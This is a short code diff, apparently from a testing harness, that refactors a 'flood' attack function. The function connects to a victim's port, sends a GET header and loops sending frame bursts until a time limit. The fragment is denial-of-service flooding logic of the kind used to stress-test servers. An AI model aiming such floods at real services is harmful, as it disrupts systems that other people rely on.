@@ -38,8 +38,7 @@ def flood(*frames: bytes) -> Callable[[Victim], None]:
 
     def attack(victim: Victim) -> None:
         with Peer(victim.port) as peer:
-            stream, head = peer.head(GET)
-            peer.send(head)
+            peer.send(peer.head(GET)[1])
             end, sent = time.monotonic() + victim.seconds, 0
             while time.monotonic() < end and peer.send(burst):
                 sent += BURST * len(frames)
